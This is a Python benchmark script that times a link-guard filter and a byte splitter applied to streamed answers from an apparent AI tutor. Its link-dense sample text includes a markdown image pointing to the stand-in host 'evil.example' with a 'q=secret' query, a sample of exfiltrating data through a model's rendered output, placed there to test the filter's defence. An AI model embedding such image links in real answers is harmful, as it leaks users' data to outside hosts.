"""CPU per streamed delta of what a turn does to the model's text before publishing it.

Every delta of every answer passes the link guard (tutor/links.py: links and images to
hosts off the allowlist neutralised, one split across deltas held back) and the byte
bound (tutor/stream/byte_bounds.py: a delta too large for one bus event split). Both sit
on the per-token path whose budget is 50 us of server CPU per delivered event, so this
prints their cost per delta beside a baseline measured in the same run: the same
deltas only joined, as the turn did before.

    uv run python bench/answer_filters.py            # ~2 s
"""

import sys
import time
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[1] / "agents")]

from tutor.links import LinkGuard, LinkPolicy  # noqa: E402
from tutor.stream.byte_bounds import DELTA_EVENT_BYTES, split_by_bytes  # noqa: E402

PROSE = (
    "The break statement, like in C, breaks out of the innermost enclosing for or while "
    "loop. Loop statements may have an else clause; it is executed when the loop "
    "terminates through exhaustion of the iterable, but not when it is ended by break. "
).split(" ")
LINKS = (
    "The break statement, like in C, breaks out of the innermost enclosing for or while "
    "loop; see [the tutorial](https://docs.python.org/3/tutorial/) and ![a chart]"
    "(http://evil.example/c.png?q=secret) for more. Use `x < y` and a [bracket] too. "
).split(" ")
# Word-sized deltas, as models send them: plain prose, and text dense with links.
CORPORA = {
    "prose": [word + " " for word in PROSE] * 300,
    "links": [word + " " for word in LINKS] * 400,
}


def _baseline(deltas: list[str]) -> float:
    started = time.perf_counter()
    parts = []
    for delta in deltas:
        parts.append(delta)
    "".join(parts)
    return time.perf_counter() - started


def _filtered(deltas: list[str]) -> float:
    guard = LinkGuard(LinkPolicy.of(["docs.python.org"]))
    started = time.perf_counter()
    parts = []
    for delta in deltas:
        released = guard.feed(delta)
        if released:
            parts.extend(split_by_bytes(released, DELTA_EVENT_BYTES))
    parts.append(guard.flush())
    "".join(parts)
    return time.perf_counter() - started


def main() -> None:
    for name, deltas in CORPORA.items():
        # Least of several runs: the machine is shared, and noise only adds.
        baseline = min(_baseline(deltas) for _ in range(5))
        filtered = min(_filtered(deltas) for _ in range(5))
        per_delta = 1e6 / len(deltas)
        print(f"{name}: {len(deltas)} deltas")
        print(f"  baseline (join only):      {baseline * per_delta:6.2f} us per delta")
        print(f"  link guard + byte bound:   {filtered * per_delta:6.2f} us per delta")


if __name__ == "__main__":
    main()
